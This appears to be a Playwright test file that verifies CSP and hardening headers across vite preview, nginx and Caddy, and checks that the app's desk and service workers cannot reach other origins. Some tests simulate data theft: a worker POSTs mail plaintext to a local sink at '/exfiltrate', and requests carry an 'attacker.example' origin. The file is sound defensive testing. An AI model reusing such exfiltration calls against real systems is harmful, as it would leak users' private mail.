/**
 * Issue 16, point 2: the CSP is an HTTP header on every response, pages, the desk worker
 * script and the service worker alike, with default-src 'self', connect-src 'self', no eval,
 * frame-ancestors 'none', base-uri 'none' and object-src 'none'; no response carries
 * `Access-Control-Allow-Origin: *`. Checked on `npm start` (vite preview) and on the shipped
 * nginx and Caddy configs running over the build, against the policy the build wrote. A meta
 * CSP does not reach workers: the desk worker, which parses hostile mail and opens sealed keys,
 * could fetch any origin before.
 */
import { readdirSync, readFileSync } from 'node:fs';
import type { Page, Worker } from '@playwright/test';
import { expect, test, waitForServiceWorker } from './fixtures';
import { HARDENING_HEADERS, HEADER_FILES, parsePolicy, policyFromPages, REQUIRED_DIRECTIVES } from '../../scripts/security-headers.mjs';
import { serveBuild } from '../../scripts/serve-build.mjs';
import { BUILD, fakeJmap, nodeServer, startCaddy, startNginx, type RunningServer } from './servers';

// The desk worker (the legacy readers' worker, started from inside it, is another file there).
const workerFile = readdirSync(`${BUILD}/_app/immutable/workers`).find((name) => name.startsWith('worker-') && name.endsWith('.js'));
const WORKER_SCRIPT = `/_app/immutable/workers/${workerFile ?? 'missing.js'}`;
const PATHS = ['/', '/ticket', '/ticket?id=1', '/admin/smime', '/service-worker.js', WORKER_SCRIPT, '/manifest.webmanifest', '/_app/version.json', '/no-such-page'];
const JMAP_PATHS = ['/jmap/session', '/.well-known/jmap'];

/** Fetches `path` as a page on another origin would (with an Origin header), from Node. */
async function headersAt(origin: string, path: string): Promise<Response> {
	return fetch(origin + path, { headers: { origin: 'https://attacker.example' }, redirect: 'manual' });
}

/** The header policy must be the built one, carry every required directive and allow no eval. */
function expectSecured(response: Response, policy: string, where: string): void {
	const csp = response.headers.get('content-security-policy');
	expect(csp, `${where}: Content-Security-Policy`).toBe(policy);
	const directives = parsePolicy(csp ?? '');
	for (const [name, values] of Object.entries(REQUIRED_DIRECTIVES)) expect(directives.get(name), `${where}: ${name}`).toEqual(values);
	expect(csp, where).not.toMatch(/unsafe-eval|wasm-unsafe-eval/);
	expect(directives.get('script-src'), where).not.toContain("'unsafe-inline'");
	for (const [name, value] of Object.entries(HARDENING_HEADERS)) expect(response.headers.get(name), `${where}: ${name}`).toBe(value);
	expect(response.headers.get('access-control-allow-origin'), `${where}: Access-Control-Allow-Origin`).toBeNull();
}

/** The desk worker of a page, once the page has started it. */
async function deskWorker(page: Page): Promise<Worker> {
	await expect.poll(() => page.workers().some((worker) => worker.url().includes('/_app/immutable/workers/'))).toBe(true);
	const worker = page.workers().find((candidate) => candidate.url().includes('/_app/immutable/workers/'));
	if (!worker) throw new Error('no desk worker');
	return worker;
}

/** From inside a worker: POSTs to `url` and reports whether it went and which CSP directives objected. */
async function fetchFromWorker(worker: Worker, url: string): Promise<{ result: string; violations: string[] }> {
	return worker.evaluate(async (target) => {
		const violations: string[] = [];
		self.addEventListener('securitypolicyviolation', (event) => {
			violations.push(event.effectiveDirective);
		});
		let result = 'sent';
		try {
			await fetch(target, { method: 'POST', body: 'the plaintext of a mail' });
		} catch {
			result = 'blocked';
		}
		await new Promise((done) => setTimeout(done, 200));
		return { result, violations };
	}, url);
}

/** Another origin that would answer any fetch (CORS open), and records what reached it. */
function sink(): ReturnType<typeof nodeServer> {
	return nodeServer((_req, res) => {
		res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
		res.end('received');
	});
}

const policy = await policyFromPages(BUILD);

test('the build wrote one policy for every host, with every required directive', () => {
	const files = Object.values(HEADER_FILES).map((name) => readFileSync(`${BUILD}/${name}`, 'utf8'));
	for (const text of files) expect(text).toContain(policy);
	for (const [name, values] of Object.entries(REQUIRED_DIRECTIVES)) expect(parsePolicy(policy).get(name)).toEqual(values);
});

test('npm start sends the CSP and the hardening headers on every response, and no CORS header', async ({ baseURL }) => {
	const origin = new URL(baseURL ?? '').origin;
	for (const path of PATHS) expectSecured(await headersAt(origin, path), policy, `preview ${path}`);
	const preflight = await fetch(`${origin}/`, { method: 'OPTIONS', headers: { origin: 'https://attacker.example', 'access-control-request-method': 'GET' } });
	expect(preflight.headers.get('access-control-allow-origin')).toBeNull();
});

test('the browser takes the headers without a complaint: no console message about them on any page', async ({ page }) => {
	const complaints: string[] = [];
	page.on('console', (message) => {
		if (/Permissions-Policy|Content-Security-Policy|Cross-Origin/i.test(message.text())) complaints.push(`${message.type()}: ${message.text()}`);
	});
	for (const path of PATHS) {
		await page.goto(path);
		await page.waitForLoadState('networkidle');
	}
	expect(complaints).toEqual([]);
});

test('the desk worker and the service worker cannot fetch another origin', async ({ page }) => {
	const other = await sink();
	try {
		await page.goto('/');
		const worker = await deskWorker(page);
		// The same call to the app's own origin goes through: the worker is reachable and fetch works.
		expect(await worker.evaluate(async () => (await fetch('/_app/version.json')).ok)).toBe(true);
		expect(await fetchFromWorker(worker, `${other.origin}/exfiltrate`)).toEqual({ result: 'blocked', violations: ['connect-src'] });

		await waitForServiceWorker(page);
		const [serviceWorker] = page.context().serviceWorkers();
		if (!serviceWorker) throw new Error('no service worker');
		expect(await fetchFromWorker(serviceWorker, `${other.origin}/exfiltrate`)).toEqual({ result: 'blocked', violations: ['connect-src'] });
		expect(other.hits).toEqual([]);
	} finally {
		other.server.close();
	}
});

test('a host that sends no header leaves the desk worker free to fetch anywhere: the meta tag covers only the page', async ({ page, requests }) => {
	const other = await sink();
	const { server, origin } = await serveBuild(BUILD);
	try {
		requests.allowOrigin(origin);
		requests.allowOrigin(other.origin);
		await page.goto(`${origin}/`);
		const worker = await deskWorker(page);
		expect(await fetchFromWorker(worker, `${other.origin}/exfiltrate`)).toEqual({ result: 'sent', violations: [] });
		expect(other.hits).toEqual(['/exfiltrate']);
	} finally {
		server.close();
		other.server.close();
	}
});

for (const [name, start] of [
	['nginx', startNginx],
	['Caddy', startCaddy]
] as const) {
	test(`${name} with the shipped config sends the built policy everywhere, proxies JMAP without its CORS, and the app runs under it`, async ({ page, requests }) => {
		test.setTimeout(60_000);
		const jmap = await fakeJmap();
		const other = await sink();
		let server: RunningServer | undefined;
		try {
			server = await start(jmap.origin);
			for (const path of PATHS) expectSecured(await headersAt(server.origin, path), policy, `${name} ${path}`);
			expect((await headersAt(server.origin, '/')).status).toBe(200);
			expect((await headersAt(server.origin, '/admin/smime')).status).toBe(200);
			expect((await headersAt(server.origin, WORKER_SCRIPT)).headers.get('content-type')).toMatch(/javascript/);
			expect((await headersAt(server.origin, WORKER_SCRIPT)).headers.get('cache-control')).toMatch(/immutable|max-age=315360000/);
			expect((await headersAt(server.origin, '/service-worker.js')).headers.get('cache-control')).toBe('no-cache');
			for (const path of JMAP_PATHS) {
				const response = await headersAt(server.origin, path);
				expect(await response.text(), `${name} ${path}`).toContain('urn:ietf:params:jmap:core');
				expectSecured(response, policy, `${name} ${path}`);
			}
			expect(jmap.hits).toEqual(JMAP_PATHS);
			for (const file of Object.values(HEADER_FILES)) expect((await headersAt(server.origin, `/${file}`)).status, `${name} /${file}`).toBe(404);

			// The app itself under the header: its inline scripts run, the desk worker starts and is fenced in.
			requests.allowOrigin(server.origin);
			const refused: string[] = [];
			page.on('console', (message) => {
				if (/Content Security Policy|Refused to/i.test(message.text())) refused.push(message.text());
			});
			await page.goto(`${server.origin}/`);
			await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
			const worker = await deskWorker(page);
			await page.goto(`${server.origin}/admin/smime`);
			await expect(page.getByRole('switch', { name: 'S/MIME integration' })).toBeVisible();
			expect(refused).toEqual([]);
			expect(await fetchFromWorker(await deskWorker(page), `${other.origin}/exfiltrate`)).toEqual({ result: 'blocked', violations: ['connect-src'] });
			expect(worker.url()).toContain(WORKER_SCRIPT);
			expect(other.hits).toEqual([]);
		} finally {
			await server?.stop();
			jmap.server.close();
			other.server.close();
		}
	});
}
